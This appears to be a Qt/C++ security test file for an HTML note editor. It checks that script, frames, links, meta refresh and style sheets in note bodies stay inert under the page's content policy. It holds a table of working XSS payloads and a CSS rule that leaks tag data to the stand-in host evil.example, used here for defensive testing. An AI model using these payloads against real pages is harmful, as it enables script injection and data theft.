// Note bodies come from imported files and from the source view: nothing inside one may run
// script, reach the network, move the page away or talk to the host.
#include "editortests.h"
#include "pagefixture.h"

#include "editorresource.h"

#include <QRegularExpression>
#include <QTest>

#include <algorithm>
#include <iterator>

namespace {

// What stops a vector: the page's content policy, or the page's own handling of bodies and clicks
// (for what no policy stops, such as a navigation or a refresh, and for what it handles first).
enum class TGuard
{
    gdPolicy,
    gdPage
};

struct TVector
{
    const char* Name;
    TGuard Guard;
    // Markup with MARK (this vector's own mark), PAYLOAD (script run in the page) and PARENT
    // (script run in a frame, acting on the page).
    const char* Body;
    // Clicked in view mode: the element whose id is the mark.
    bool Click = false;
    // A web address that, clicked in view mode, goes to the host for the user's browser.
    const char* Opens = "";
};

// Every vector marks what it does with its own mark: the script posts it, the addresses carry it.
// In the same page without its policy, a vector the policy stops does act (so its row shows that
// the policy works), and one the page stops still does nothing (the page's handling alone).
const TVector Vectors[] = {
    {"image error handler", TGuard::gdPolicy,
     "<p><img src=\"nowhere.png\" onerror=\"PAYLOAD\"></p>"},
    {"svg animation handler", TGuard::gdPolicy,
     "<svg><set attributeName=\"x\" to=\"1\" onbegin=\"PAYLOAD\"></set></svg>"},
    {"details ontoggle", TGuard::gdPolicy,
     "<details open=\"\" ontoggle=\"PAYLOAD\"><summary>s</summary></details>"},
    {"style load handler", TGuard::gdPolicy, "<style onload=\"PAYLOAD\">p { }</style>"},
    {"iframe document", TGuard::gdPolicy,
     "<iframe src=\"data:text/html,<script>PARENT</script>\"></iframe>"},
    {"iframe javascript", TGuard::gdPolicy, "<iframe src=\"javascript:PARENT\"></iframe>"},
    {"object", TGuard::gdPolicy,
     "<object data=\"data:text/html,<script>PARENT</script>\"></object>"},
    {"style sheet link", TGuard::gdPolicy,
     "<link rel=\"stylesheet\" href=\"https://example.invalid/MARK.css\">"},
    {"javascript link", TGuard::gdPage,
     "<p><a id=\"MARK\" href=\"javascript:PAYLOAD\">click</a></p>", true},
    {"web link", TGuard::gdPage,
     "<p><a id=\"MARK\" href=\"https://example.invalid/MARK\">site</a></p>", true,
     "https://example.invalid/MARK"},
    {"web image map area", TGuard::gdPage,
     "<p><img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAP///"
     "wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==\" width=\"40\" height=\"40\" "
     "usemap=\"#MARKmap\"><map name=\"MARKmap\"><area id=\"MARK\" shape=\"default\" "
     "href=\"https://example.invalid/MARK\"></map></p>",
     true, "https://example.invalid/MARK"},
    {"form", TGuard::gdPage,
     "<form action=\"https://example.invalid/MARK\"><button id=\"MARK\">go</button></form>", true},
    {"iframe srcdoc", TGuard::gdPage, "<iframe srcdoc=\"<script>PARENT</script>\"></iframe>"},
    {"meta refresh", TGuard::gdPage,
     "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/MARK\">"},
};

QString MarkOf(int AIndex)
{
    return QStringLiteral("beacon%1x").arg(AIndex);
}

QString Expand(const char* AText, int AIndex)
{
    QString text = QString::fromUtf8(AText);
    text.replace(QStringLiteral("PARENT"),
                 QStringLiteral("parent.document.title='pwned';"
                                "parent.chrome.webview.postMessage({type:'pwned',mark:'MARK'})"));
    text.replace(
        QStringLiteral("PAYLOAD"),
        QStringLiteral(
            "document.title='pwned';chrome.webview.postMessage({type:'pwned',mark:'MARK'})"));
    text.replace(QStringLiteral("MARK"), MarkOf(AIndex));
    return text;
}

// The same page with its content policy taken out, derived from the page itself.
QString PageWithoutPolicy()
{
    QString page = EditorHtml();
    const QRegularExpression policy(
        QStringLiteral("<meta http-equiv=\"Content-Security-Policy\"[^>]*>"));
    if (page.count(policy) != 1) {
        return QString();
    }
    page.remove(policy);
    return page;
}

} // namespace

class TSafetyTest : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<TEditorPageFixture> F;

    // Loads the body the way the host does and keeps every post from then on.
    bool Show(const QString& ABody)
    {
        F->ClearPosts();
        F->Send(Msg(QStringLiteral("load"), {{QStringLiteral("html"), ABody}}));
        return !F->WaitForPost(QStringLiteral("loadAck"), 3000).Msg.isEmpty();
    }

    // Puts the text into the source view and applies it.
    bool ApplySource(const QString& AText)
    {
        if (!F->LoadBody(QStringLiteral("<p>start</p>"))) {
            return false;
        }
        F->Click(QStringLiteral("#btn-source"));
        F->Js(QStringLiteral("sourceView.value = %1; true").arg(JsString(AText)));
        F->Key(Qt::Key_Return, Qt::ControlModifier);
        return F->JsText(QStringLiteral("document.body.className")).isEmpty();
    }

    // In view mode, clicks every vector of the list that is clicked.
    void ClickVectors(const QList<int>& AIndexes)
    {
        if (std::none_of(AIndexes.begin(), AIndexes.end(),
                         [](int i) { return Vectors[i].Click; })) {
            return;
        }
        F->SendText(QStringLiteral("{\"type\":\"setViewMode\",\"readOnly\":true}"));
        F->Js(QStringLiteral("window.__clicked = []; document.addEventListener('click',"
                             " (e) => __clicked.push(e.target.id), true); true"));
        for (int i : AIndexes) {
            if (Vectors[i].Click) {
                const QString selector = QStringLiteral("#editor #") + MarkOf(i);
                F->Js(QStringLiteral("document.querySelector(%1).scrollIntoView({block: "
                                     "'center'}); true")
                          .arg(JsString(selector)));
                F->Click(selector);
                // The click did reach the vector.
                QVERIFY2(F->Js(QStringLiteral("__clicked.includes(%1)").arg(JsString(MarkOf(i))))
                             .toBool(),
                         Vectors[i].Name);
            }
        }
    }

    // What the vector did: posted its mark, navigated to or asked for an address with it.
    QStringList Acts(int AIndex)
    {
        const QString mark = MarkOf(AIndex);
        QStringList acts;
        for (const TPosted& p : F->Posts()) {
            if (p.Type() == QLatin1String("pwned") &&
                p.Msg.value(QStringLiteral("mark")).toString() == mark) {
                acts << QStringLiteral("posted");
            }
        }
        for (const QString& url : F->Page()->FNavigations) {
            if (url.contains(mark)) {
                acts << QStringLiteral("navigated to ") + url.left(80);
            }
        }
        for (const QString& url : F->Interceptor()->FRequests) {
            if (url.contains(mark)) {
                acts << QStringLiteral("requested ") + url;
            }
        }
        return acts;
    }

    // In the page without its policy, each vector the policy guards acts and none other does.
    void VerifyLiveWithoutPolicy(const QList<int>& AIndexes)
    {
        QList<int> live;
        for (int i : AIndexes) {
            if (Vectors[i].Guard == TGuard::gdPolicy) {
                live << i;
            }
        }
        F->WaitUntil(
            [&] {
                return std::all_of(live.begin(), live.end(),
                                   [&](int i) { return !Acts(i).isEmpty(); });
            },
            3000);
        // The vectors that must do nothing get the time the others needed.
        if (live.size() < AIndexes.size()) {
            QTest::qWait(400);
        }
        for (int i : AIndexes) {
            const QStringList acts = Acts(i);
            if (Vectors[i].Guard == TGuard::gdPolicy) {
                QVERIFY2(!acts.isEmpty(), Vectors[i].Name);
            } else {
                QVERIFY2(acts.isEmpty(),
                         qPrintable(QLatin1String(Vectors[i].Name) + QStringLiteral(": ") +
                                    acts.join(QStringLiteral(", "))));
            }
        }
    }

    void VerifyNothingRan(const QList<int>& AIndexes)
    {
        QCOMPARE(F->JsText(QStringLiteral("document.title")), QStringLiteral("Quorvel Editor"));
        QCOMPARE(F->Page()->FNavigations, QStringList());
        QVERIFY(
            F
                ->Js(QStringLiteral(
                    "typeof handleFromHost === 'function' && !!document.getElementById('editor')"))
                .toBool());
        // Web links clicked in view mode go to the host for the user's browser, and only they.
        QStringList opened;
        for (const TPosted& p : F->Posts()) {
            if (p.Type() == QLatin1String("openLink")) {
                opened << p.Msg.value(QStringLiteral("url")).toString();
                continue;
            }
            QVERIFY2(p.Type() == QLatin1String("tagsUpdated") ||
                         p.Type() == QLatin1String("loadAck") ||
                         p.Type() == QLatin1String("contentChanged"),
                     qPrintable(p.Json));
        }
        QStringList opens;
        for (int i : AIndexes) {
            if (*Vectors[i].Opens) {
                opens << Expand(Vectors[i].Opens, i);
            }
        }
        QCOMPARE(opened, opens);
        for (const QString& url : F->Interceptor()->FRequests) {
            QVERIFY2(!url.contains(QLatin1String("example.invalid")), qPrintable(url));
        }
    }

private Q_SLOTS:
    void initTestCase()
    {
        F = std::make_unique<TEditorPageFixture>();
        QVERIFY(!PageWithoutPolicy().isEmpty());
    }
    void cleanupTestCase() { F.reset(); }

    void pageStartsWithoutNetwork()
    {
        QVERIFY(F->LoadPage());
        // The only address the page asks for is the web font's style sheet (the engine may
        // ask for it more than once); refused, the page still comes up.
        QCOMPARE(F->FStartupPosts.value(0).Type(), QStringLiteral("ready"));
        const QStringList requests = F->Interceptor()->FRequests;
        QVERIFY(!requests.isEmpty());
        for (const QString& url : requests) {
            QVERIFY2(
                url.startsWith(QLatin1String("https://fonts.googleapis.com/css2?family=Open+Sans")),
                qPrintable(url));
        }
    }

    void bodyContentNeverRuns_data()
    {
        QTest::addColumn<int>("vector");
        for (int i = 0; i < int(std::size(Vectors)); ++i) {
            QTest::newRow(Vectors[i].Name) << i;
        }
    }
    void bodyContentNeverRuns()
    {
        QFETCH(int, vector);
        const QString body = Expand(Vectors[vector].Body, vector);
        QVERIFY(F->LoadPage(PageWithoutPolicy()));
        QVERIFY(Show(body));
        ClickVectors({vector});
        QVERIFY(!QTest::currentTestFailed());
        VerifyLiveWithoutPolicy({vector});

        QVERIFY(F->LoadPage());
        QVERIFY(Show(body));
        ClickVectors({vector});
        QTest::qWait(400);
        VerifyNothingRan({vector});
        // Nothing of the body is lost on the way to the store.
        QCOMPARE(F->CleanHtml(), body);
    }

    // Dropped files never replace the page; the browser's own menu (with its reload) is offered
    // only over text that can be edited.
    void dropsAndBrowserMenu()
    {
        QVERIFY(F->LoadPage());
        QVERIFY(F->LoadBody(QStringLiteral("<p>text</p>")));
        const auto prevented = [this](const QString& AEvent, const QString& ATarget) {
            return F
                ->Js(QStringLiteral(
                         "(function(){ const t = document.querySelector('%1');"
                         " const dt = new DataTransfer();"
                         " dt.items.add(new File(['x'], 'a.txt'));"
                         " const e = '%2' === 'contextmenu'"
                         "   ? new MouseEvent('contextmenu', {bubbles: true, cancelable: true})"
                         "   : new DragEvent('%2', {bubbles: true, cancelable: true, dataTransfer: "
                         "dt});"
                         " t.dispatchEvent(e); return e.defaultPrevented; })()")
                         .arg(ATarget, AEvent))
                .toBool();
        };
        QVERIFY(prevented(QStringLiteral("drop"), QStringLiteral("#editor p")));
        QVERIFY(prevented(QStringLiteral("dragover"), QStringLiteral("body")));
        QVERIFY(prevented(QStringLiteral("contextmenu"), QStringLiteral("#btn-bold")));
        QVERIFY(!prevented(QStringLiteral("contextmenu"), QStringLiteral("#editor p")));
        F->SendText(QStringLiteral("{\"type\":\"setViewMode\",\"readOnly\":true}"));
        QVERIFY(prevented(QStringLiteral("contextmenu"), QStringLiteral("#editor p")));
        QCOMPARE(F->Page()->FNavigations, QStringList());
    }

    // Every vector at once, written into the source view and applied.
    // A body's style sheet never acts on the page: it neither styles the page's elements nor
    // makes a request, and the body keeps it as it was written.
    void bodyStyleSheetsStayInert_data()
    {
        QTest::addColumn<QString>("body");
        QTest::addColumn<bool>("viaSource");
        const QString rules =
            QStringLiteral("#toolbar{display:none} span[data-tag^=\"Secret\"]{background:url("
                           "https://evil.example/leak?tag=Secret)}");
        const QString tagged = QStringLiteral(
            "<p><span data-hash=\"s1\" data-colour=\"red\" id=\"s1\" data-tag=\"Secret plan\">"
            "plan</span></p>");
        QTest::newRow("style element") << "<style>" + rules + "</style>" + tagged << false;
        QTest::newRow("style with its own type")
            << "<style media=\"all\" type=\"text/css\">" + rules + "</style>" + tagged << false;
        QTest::newRow("style in an svg image")
            << "<svg><style>" + rules + "</style></svg>" + tagged << false;
        QTest::newRow("applied from the source view")
            << "<style>" + rules + "</style>" + tagged << true;
    }
    void bodyStyleSheetsStayInert()
    {
        QFETCH(QString, body);
        QFETCH(bool, viaSource);
        QVERIFY(F->LoadPage());
        if (viaSource) {
            QVERIFY(ApplySource(body));
        } else {
            QVERIFY(Show(body));
        }
        QTest::qWait(500);
        QCOMPARE(F->JsText(QStringLiteral("getComputedStyle(pageEl['toolbar']).display")),
                 QStringLiteral("flex"));
        QVERIFY(F->Js(QStringLiteral("pageEl['toolbar'].offsetHeight > 0")).toBool());
        for (const QString& url : F->Interceptor()->FRequests) {
            QVERIFY2(!url.contains(QLatin1String("evil.example")), qPrintable(url));
        }
        QCOMPARE(F->CleanHtml(), body);
        // The source view shows the style element and the tag as they were written.
        F->Click(QStringLiteral("#btn-source"));
        const QString source = F->JsText(QStringLiteral("sourceView.value"));
        const qsizetype styleAt = body.indexOf(QLatin1String("<style"));
        const qsizetype styleEnd = body.indexOf(QLatin1String("</style>")) + 8;
        QVERIFY(styleAt >= 0 && styleEnd > styleAt);
        QVERIFY2(source.contains(body.mid(styleAt, styleEnd - styleAt)), qPrintable(source));
        QVERIFY2(source.contains(QLatin1String("data-tag=\"Secret plan\">plan</span>")),
                 qPrintable(source));
    }

    void sourceViewContentNeverRuns()
    {
        QList<int> all;
        QString text;
        for (int i = 0; i < int(std::size(Vectors)); ++i) {
            all << i;
            text += Expand(Vectors[i].Body, i);
        }
        QVERIFY(F->LoadPage(PageWithoutPolicy()));
        QVERIFY(ApplySource(text));
        ClickVectors(all);
        QVERIFY(!QTest::currentTestFailed());
        VerifyLiveWithoutPolicy(all);

        QVERIFY(F->LoadPage());
        QVERIFY(ApplySource(text));
        ClickVectors(all);
        QTest::qWait(400);
        VerifyNothingRan(all);
        QCOMPARE(F->WaitForPost(QStringLiteral("contentChanged"), 500)
                     .Msg.value(QStringLiteral("html"))
                     .toString(),
                 text);
        QCOMPARE(F->CleanHtml(), text);
        // Shown again in the source view, the markup reads as it was written.
        F->SendText(QStringLiteral("{\"type\":\"setViewMode\",\"readOnly\":false}"));
        F->Click(QStringLiteral("#btn-source"));
        QVERIFY(F->JsText(QStringLiteral("sourceView.value"))
                    .contains(QStringLiteral("<meta http-equiv=\"refresh\"")));
        QVERIFY(F->JsText(QStringLiteral("sourceView.value"))
                    .contains(QStringLiteral("<iframe srcdoc=")));
    }
};

std::unique_ptr<QObject> NewSafetyTest()
{
    return std::make_unique<TSafetyTest>();
}

#include "test_safety.moc"
